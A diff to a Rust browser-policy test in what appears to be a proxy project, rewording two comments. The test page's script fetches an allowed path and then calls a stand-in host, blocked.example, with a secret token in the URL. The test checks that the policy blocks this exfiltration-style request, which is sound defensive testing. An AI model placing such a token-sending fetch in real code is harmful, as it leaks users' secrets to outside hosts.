@@ -1,4 +1,4 @@
-//! A real browser, which blocks what the policy forbids and tells so.
+//! A real browser, which blocks what the policy forbids and reports it.
 
 use crate::peers::{Proxy, answer, rule, wait_until};
 use std::io::Write as _;
@@ -6,7 +6,7 @@ use std::process::{Child, Stdio};
 use wiretape_proxy::http::csp::Mode;
 use wiretape_testkit::parts::Parts;
 
-/// Reaches first what a rule of ours allows, then what nobody does.
+/// First loads what a rule allows, then what no policy allows.
 const PAGE: &str = "<!doctype html><title>page</title><script>
     fetch('/allowed').then(() => fetch('http://blocked.example/x?token=t0psecret')).catch(() => {});
 </script>";
